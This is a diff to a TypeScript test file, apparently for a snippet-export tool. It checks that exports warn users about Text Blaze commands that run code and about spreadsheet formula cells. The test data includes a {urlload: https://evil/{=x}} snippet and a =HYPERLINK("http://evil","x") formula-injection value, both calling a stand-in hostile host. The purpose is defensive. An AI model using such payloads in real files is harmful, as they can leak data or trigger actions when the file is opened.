@@ -323,13 +323,33 @@ test("JetBrains gets only variables whose functions compute a text, and settings
 
 test("commands of Text Blaze are named in several lines and within others, too", () => {
   for (const [text, example] of [
-    ["a {urlload:\nhttps://evil/{=x}; done=x} b", "{urlload: https://evil/"],
-    ["{ Click }", "{ Click }"],
+    ["a {note:\n{=x}; done=x} b", "{note:"],
     ["{=1+{x}}", "{=1+"],
   ] as const)
     expect(warned("textblaze", snippetOf(text))).toEqual([
       `1 snippet contains commands, such as ${example}. Text Blaze replaces them when you insert the snippet.`,
     ]);
+  // Those that act are code, which is named with its line.
+  const acting = [
+    snippetOf("Hello"),
+    snippetOf("a {urlload:\nhttps://evil/{=x}}", { title: "B" }),
+    snippetOf("{ Click }", { title: "C" }),
+  ];
+  const { files, code, warnings } = writeFiles(treeOf(...acting), "textblaze");
+  const lines = decoder.decode(files[0]?.bytes).split("\n");
+  expect(code.map(({ title, place }) => [title, place.file, lines[place.line ?? 0]?.trim()])).toEqual([
+    ["B", "text-blaze.json", '"name": "B",'],
+    ["C", "text-blaze.json", '"name": "C",'],
+  ]);
+  expect(warnings[0]?.message).toStartWith(
+    'Text Blaze runs code from 2 snippets when you insert them: "B" (text-blaze.json:',
+  );
+});
+
+test("Espanso's cursor markers cannot be escaped, which is said", () => {
+  expect(warned("espanso", snippetOf("Dear $|$,"))).toEqual([
+    "1 snippet contains cursor markers, such as $|$. Espanso replaces them when you insert the snippet.",
+  ]);
 });
 
 test("what XML cannot represent is left out of files for JetBrains, and the others stay", () => {
@@ -357,4 +377,16 @@ test("the data of any tool at the end of a note is no description, and what a pe
   ])
     expect(descriptionOf(note)).toBe(note);
   expect(warned("raycast", snippetOf("x", { note: data }))).toEqual([]);
+});
+
+test("tables keep texts that a spreadsheet would run, since an import reads them again, and say so", () => {
+  const formula = '=HYPERLINK("http://evil","x")';
+  for (const id of ["csv", "textexpander"] as const) {
+    expect(warned(id, snippetOf(formula), snippetOf("x", { title: "-2+3" }), snippetOf("a=1"))).toEqual([
+      '2 snippets contain cells that begin like a formula, such as =HYPERLINK("http://evil","x"). If you open the file in a spreadsheet, it may run them.',
+    ]);
+    expect(textsOf(readFiles(writeFiles(treeOf(snippetOf(formula)), id).files, { format: id }).tree)).toEqual([
+      formula,
+    ]);
+  }
 });
